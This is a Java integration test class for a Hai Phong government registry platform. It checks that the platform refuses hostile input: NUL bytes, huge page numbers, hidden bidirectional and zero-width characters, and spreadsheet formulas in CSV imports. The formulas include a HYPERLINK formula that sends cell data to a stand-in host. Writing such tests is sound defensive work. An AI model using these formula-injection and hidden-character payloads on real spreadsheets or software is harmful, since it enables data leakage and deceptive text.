package vn.gov.haiphong.lgsp.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.gov.haiphong.lgsp.it.Http.json;
import static vn.gov.haiphong.lgsp.it.Http.send;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile text and numbers, black box: NUL in parameters and JSON, pages past the bound, hidden (bidirectional,
 * zero-width) characters in names and free text, spreadsheet formulas in code lists, an agency admin reaching for
 * an official field, a SOAP envelope with two bodies. Each case checks the safe answer and that nothing changed.
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    /** An agency of this class's own, renamed (or not) by the cases below. */
    private static final String AGENCY = "H24.15.60";
    private static final String AGENCY_NAME = "Phòng Thử nghiệm ký tự";
    /** A code list of this class's own, with a text attribute; its draft is replaced by the import cases. */
    private static final String FORMULA_LIST = "dm-cong-thuc";

    /** Every bidirectional control and zero-width or invisible character the platform refuses. */
    private static final int[] HIDDEN = {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069,
        0x200E, 0x200F, 0x061C, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF};

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.ear();
    }

    // --- NUL -------------------------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource({
        "/api/v1/agencies?q=, %00so+y+te", "/api/v1/agencies?q=, so%00y+te", "/api/v1/agencies?q=, so+y+te%00",
        "/api/v1/code-lists/dan-toc/items?q=, %00kinh", "/api/v1/code-lists/dan-toc/items?q=, ki%00nh",
        "/api/v1/code-lists/dan-toc/items?q=, kinh%00", "/api/v1/services?q=, %00dat", "/api/v1/services?q=, d%00at",
        "/api/v1/services?q=, dat%00", "/api/v1/code-lists/don-vi-hanh-chinh/items?parent=, 31%00"})
    void nulInAQueryParameterIsABadRequestNamingIt(String path, String value) {
        String name = path.substring(path.lastIndexOf('?') + 1, path.length() - 1);
        JsonNode problem = AgencyRestIT.assertProblem(Http.get(path + value), 400, "validation-failed");
        assertEquals(name, problem.get("errors").get(0).get("field").asText());
        assertTrue(problem.get("errors").get(0).get("message").asText().contains("U+0000"), problem.toString());
        assertEquals(200, Http.get(path + value.replace("%00", "")).statusCode(), "the same query without NUL");
    }

    @ParameterizedTest
    @CsvSource({
        "/api/v1/code-lists/, dan-toc%00, list", "/api/v1/code-lists/, %00dan-toc, list",
        "/api/v1/code-lists/, dan%00toc, list", "/api/v1/code-lists/dan-toc/items/, 01%00, item",
        "/api/v1/code-lists/dan-toc/items/, %0001, item", "/api/v1/systems/H24.10/, his%00, system",
        "/api/v1/systems/H24.10/, %00his, system"})
    void nulInAPathParameterIsABadRequestNamingIt(String path, String value, String name) {
        JsonNode problem = AgencyRestIT.assertProblem(Http.get(path + value), 400, "validation-failed");
        assertEquals(name, problem.get("errors").get(0).get("field").asText());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "H24.15.41|\\u0000Phòng Một|", "H24.15.42|Phòng\\u0000 Hai|", "H24.15.43|Phòng Ba\\u0000|",
        "H24.15.44|Phòng Bốn|\\u0000P4", "H24.15.45|Phòng Năm|P\\u00005"})
    void nulInAJsonStringIsABadRequestAndNothingIsStored(String code, String name, String shortName) {
        long before = Database.agencyCount();
        String body = "{\"code\":\"" + code + "\",\"name\":\"" + name + "\",\"kind\":\"OTHER\""
                + (shortName == null ? "" : ",\"shortName\":\"" + shortName + "\"") + "}";
        JsonNode problem = AgencyRestIT.assertProblem(Http.post(Tokens.OPERATOR, "/admin/v1/agencies", body), 400,
                "validation-failed");
        assertEquals("body", problem.get("errors").get(0).get("field").asText());
        assertEquals(404, Http.get("/api/v1/agencies/" + code).statusCode());
        assertEquals(before, Database.agencyCount());
    }

    // --- numbers ---------------------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource({
        "/api/v1/agencies, 2147483647", "/api/v1/agencies, 1073741824", "/api/v1/agencies, 1000001",
        "/api/v1/code-lists/dan-toc/items, 2147483647", "/api/v1/code-lists/dan-toc/items, 107374183",
        "/api/v1/code-lists/dan-toc/items, 1000001", "/api/v1/systems, 2147483647", "/api/v1/systems, 1000001",
        "/api/v1/services, 2147483647", "/api/v1/services, 1000001", "/admin/v1/audit, 2147483647",
        "/admin/v1/audit, 1000001"})
    void aPagePastTheBoundIsABadRequest(String path, String page) {
        HttpResponse<String> response = send(Http.as(Tokens.AUDITOR, path + "?size=20&page=" + page));
        JsonNode problem = AgencyRestIT.assertProblem(response, 400, "validation-failed");
        assertEquals("page", problem.get("errors").get(0).get("field").asText());
        assertTrue(problem.get("errors").get(0).get("message").asText().matches(".*1\\D?000\\D?000.*"),
                problem.toString());
        assertEquals(200, send(Http.as(Tokens.AUDITOR, path + "?size=20&page=1000000")).statusCode(), "the last page");
    }

    // --- hidden characters -----------------------------------------------------------------------------------

    static IntStream hidden() {
        return IntStream.of(HIDDEN);
    }

    /** A new agency named with the character is refused; renaming an existing one with it too. */
    @ParameterizedTest
    @MethodSource("hidden")
    void aHiddenCharacterInAnAgencyNameIsRefusedAndNothingChanges(int codePoint) throws Exception {
        String c = Character.toString(codePoint);
        String code = "H24.15." + (70 + IntStream.of(HIDDEN).boxed().toList().indexOf(codePoint));
        HttpResponse<String> created = Http.post(Tokens.OPERATOR, "/admin/v1/agencies",
                "{\"decisionNumber\":\"15/QĐ-UBND\",\"decisionDate\":\"2026-01-05\",\"code\":\"" + code + "\",\"name\":\"Phòng" + c + " Thử\",\"kind\":\"OTHER\"}");
        assertRefusedField(created, "name", codePoint);
        assertEquals(404, Http.get("/api/v1/agencies/" + code).statusCode());

        ObjectNode agency = ownAgency();
        agency.put("name", c + AGENCY_NAME);
        assertRefusedField(put(Tokens.OPERATOR, AGENCY, agency), "name", codePoint);
        assertEquals(AGENCY_NAME, json(Http.get("/api/v1/agencies/" + AGENCY)).get("name").asText());
    }

    /** Names and free text of other records: a system group's name and description, a code list's names. */
    @ParameterizedTest
    @CsvSource({
        "0x202E, name", "0x200B, name", "0x2067, description", "0xFEFF, description", "0x200D, description",
        "0x202D, nameVi", "0x2060, nameVi", "0x200F, nameEn", "0x0007, nameVi"})
    void aHiddenCharacterInOtherNamesAndTextIsRefusedAndNothingIsStored(String hex, String field) {
        int codePoint = Integer.decode(hex);
        String text = "Văn bản" + Character.toString(codePoint) + " thử";
        String code = "an-" + field.toLowerCase() + "-" + Integer.toHexString(codePoint);
        if (field.startsWith("name") && !field.equals("name")) {
            ObjectNode list = JSON.createObjectNode().put("code", code).put("nameVi", "Danh mục thử")
                    .put("ownerAgencyCode", "H24.02");
            list.put(field, text);
            assertRefusedField(Http.post(Tokens.OPERATOR, "/admin/v1/code-lists", list.toString()), field, codePoint);
            assertEquals(404, Http.get("/api/v1/code-lists/" + code).statusCode());
        } else {
            ObjectNode group = JSON.createObjectNode().put("code", code).put("name", "Nhóm thử");
            group.put(field, text);
            assertRefusedField(Http.post(Tokens.OPERATOR, "/admin/v1/system-groups", group.toString()), field, codePoint);
            assertEquals(404, send(Http.as(Tokens.OPERATOR, "/admin/v1/system-groups/" + code)).statusCode());
        }
    }

    // --- spreadsheet formulas --------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "=1+1|code", "+1+1|code", "-1+1|code", "@SUM(A1)|code",
        "=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Bấm\"\")|name", "+cmd|name", "-cmd|name", "@cmd|name",
        "'\t=1+1'|name", "=1+1|ghi_chu", "+1+1|ghi_chu", "-2+3|ghi_chu", "@A1|ghi_chu"})
    void aFormulaCellIsRefusedOnImportAndTheDraftIsKept(String formula, String column) {
        formulaList();
        String cell = "\"" + formula + "\"";
        String row = switch (column) {
            case "code" -> cell + ",Hai,";
            case "name" -> "B," + cell + ",";
            default -> "B,Hai," + cell;
        };
        HttpResponse<String> refused = importDraft(FORMULA_LIST, "code,name,ghi_chu\nA,Một,\n" + row + "\n");
        JsonNode problem = AgencyRestIT.assertProblem(refused, 400, "validation-failed");
        assertEquals("line 3: " + column, problem.get("errors").get(0).get("field").asText());
        assertEquals(1, Database.queryLong(Database.NAME, "SELECT count(*) FROM code_list_item i"
                + " JOIN code_list_version v ON v.id = i.version_id JOIN code_list l ON l.id = v.list_id"
                + " WHERE l.code = '" + FORMULA_LIST + "' AND v.status = 'DRAFT'"), "the clean draft is kept");
        assertEquals(200, importDraft(FORMULA_LIST, "code,name,ghi_chu\nA,Một,-5\nB,Hai,-0.25\n").statusCode(),
                "a negative number is a value, not a formula");
    }

    static Stream<Arguments> storedCells() {
        return Stream.of(Arguments.of("=1+1", "\"'=1+1\""), Arguments.of("+1+1", "\"'+1+1\""),
                Arguments.of("-1+1", "\"'-1+1\""), Arguments.of("@SUM(A1:A2)", "\"'@SUM(A1:A2)\""),
                Arguments.of("\t=1+1", "\"'\t=1+1\""), Arguments.of("\r=1+1", "\"'\r=1+1\""),
                Arguments.of("=HYPERLINK(\"http://x.example\")", "\"'=HYPERLINK(\"\"http://x.example\"\")\""),
                Arguments.of("-5", "\"-5\""));
    }

    /**
     * A cell stored before imports refused formulas (written here straight into a draft's row) is exported
     * quoted, with a leading single quote; a number as it is; JSON readers still get the stored value.
     */
    @ParameterizedTest
    @MethodSource("storedCells")
    void aStoredFormulaIsNeutralisedInTheCsvExport(String stored, String exported) throws SQLException {
        String list = "dm-xuat-" + Integer.toHexString(stored.hashCode());
        defineList(list, "");
        assertEquals(200, importDraft(list, "code,name\nA,Tên tạm\n").statusCode());
        try (Connection c = Database.connect(); PreparedStatement update = c.prepareStatement("UPDATE code_list_item"
                + " SET name = ? WHERE version_id IN (SELECT v.id FROM code_list_version v JOIN code_list l"
                + " ON l.id = v.list_id WHERE l.code = ?)")) {
            update.setString(1, stored);
            update.setString(2, list);
            assertEquals(1, update.executeUpdate());
        }
        assertEquals(200, send(Http.as(Tokens.OPERATOR, "/admin/v1/code-lists/" + list + "/versions/1/publish")
                .POST(BodyPublishers.noBody())).statusCode());
        HttpResponse<String> csv = send(Http.as(Tokens.SYSTEM, "/api/v1/code-lists/" + list + "/items")
                .setHeader("Accept", "text/csv"));
        assertEquals(200, csv.statusCode(), csv.body());
        assertTrue(csv.body().contains("\r\n\"A\"," + exported + ","), csv.body());
        assertEquals(stored, json(Http.get("/api/v1/code-lists/" + list + "/items/A")).get("name").asText());
    }

    // --- an agency admin and the official fields -------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"11914", "31000", "00001"})
    void anAgencyAdminCannotSetTheAdministrativeUnitCode(String unit) throws Exception {
        ObjectNode health = (ObjectNode) json(Http.get("/api/v1/agencies/H24.10"));
        JsonNode before = health.get("administrativeUnitCode");
        health.put("administrativeUnitCode", unit);
        AgencyRestIT.assertProblem(put(Tokens.ADMIN_A, "H24.10", health), 403, "access-denied");
        assertEquals(before, json(Http.get("/api/v1/agencies/H24.10")).get("administrativeUnitCode"));
    }

    // --- SOAP ------------------------------------------------------------------------------------------------

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "text/xml|http://schemas.xmlsoap.org/soap/envelope/|2|500",
        "text/xml|http://schemas.xmlsoap.org/soap/envelope/|3|500",
        "application/soap+xml|http://www.w3.org/2003/05/soap-envelope|2|500"})
    void anEnvelopeWithMoreThanOneBodyIsAFault(String contentType, String namespace, int bodies, int status) {
        String body = "<s:Body><getAgency xmlns=\"http://lgsp.haiphong.gov.vn/ws/registry/v1\"><code>H24.10</code>"
                + "</getAgency></s:Body>";
        String envelope = "<s:Envelope xmlns:s=\"" + namespace + "\">" + body.repeat(bodies) + "</s:Envelope>";
        HttpResponse<String> response = send(Http.as(Tokens.SYSTEM, "/ws/RegistryService")
                .setHeader("Content-Type", contentType + "; charset=utf-8").POST(BodyPublishers.ofString(envelope)));
        assertEquals(status, response.statusCode(), response.body());
        assertTrue(response.body().contains("<lgsp:code>malformed-request</lgsp:code>"), response.body());
        assertTrue(response.body().contains("Body"), response.body());
        assertFalse(response.body().contains("getAgencyResponse"), response.body());
    }

    // --- readiness -------------------------------------------------------------------------------------------

    @Test
    void readinessReportsTheNewestSchemaVersion() {
        // Versions are numbers part by part ("20.1" after "20", "11" after "9"), never compared as text.
        String newest = (String) Database.row("SELECT version FROM flyway_schema_history WHERE success"
                + " AND version IS NOT NULL ORDER BY string_to_array(version, '.')::numeric[] DESC LIMIT 1").get("version");
        assertTrue(Integer.parseInt(newest.split("\\.")[0]) >= 10, "the case that compared as text: " + newest);
        JsonNode health = json(Http.send(Http.request(Http.MANAGEMENT + "/health/ready")));
        List<String> versions = new ArrayList<>();
        health.get("checks").forEach(check -> {
            if (check.get("name").asText().equals("lgsp-database")) {
                versions.add(check.get("data").get("schemaVersion").asText());
            }
        });
        assertEquals(List.of(newest), versions, health.toString());
    }

    // --- helpers ---------------------------------------------------------------------------------------------

    private static void assertRefusedField(HttpResponse<String> response, String field, int codePoint) {
        JsonNode problem = AgencyRestIT.assertProblem(response, 400, "validation-failed");
        JsonNode error = problem.get("errors").get(0);
        assertEquals(field, error.get("field").asText(), problem.toString());
        assertTrue(error.get("message").asText().contains(String.format("U+%04X", codePoint)), problem.toString());
    }

    /** This class's agency, registered on first use. */
    private static ObjectNode ownAgency() {
        HttpResponse<String> current = Http.get("/api/v1/agencies/" + AGENCY);
        if (current.statusCode() == 404) {
            Http.expect(201, Http.post(Tokens.OPERATOR, "/admin/v1/agencies",
                    "{\"decisionNumber\":\"15/QĐ-UBND\",\"decisionDate\":\"2026-01-05\",\"code\":\"" + AGENCY + "\",\"name\":\"" + AGENCY_NAME + "\",\"kind\":\"OTHER\"}"));
            current = Http.get("/api/v1/agencies/" + AGENCY);
        }
        return (ObjectNode) json(current);
    }

    private static void formulaList() {
        defineList(FORMULA_LIST, ",\"attributes\":[{\"name\":\"ghi_chu\",\"type\":\"string\",\"required\":false}]");
        assertEquals(200, importDraft(FORMULA_LIST, "code,name,ghi_chu\nA,Một,\n").statusCode());
    }

    /** Defines a code list unless it exists. */
    private static void defineList(String code, String attributes) {
        if (Http.get("/api/v1/code-lists/" + code).statusCode() == 404) {
            Http.expect(201, Http.post(Tokens.OPERATOR, "/admin/v1/code-lists", "{\"code\":\"" + code
                    + "\",\"nameVi\":\"Danh mục thử\",\"ownerAgencyCode\":\"H24.02\"" + attributes + "}"));
        }
    }

    private static HttpResponse<String> importDraft(String list, String csv) {
        return send(Http.as(Tokens.OPERATOR, "/admin/v1/code-lists/" + list + "/draft?effectiveFrom=2025-01-01")
                .header("Content-Type", "text/csv").PUT(BodyPublishers.ofString(csv)));
    }

    private static HttpResponse<String> put(String caller, String code, JsonNode body) throws Exception {
        return send(Http.as(caller, "/admin/v1/agencies/" + code).header("Content-Type", "application/json")
                .PUT(BodyPublishers.ofString(JSON.writeValueAsString(body))));
    }
}
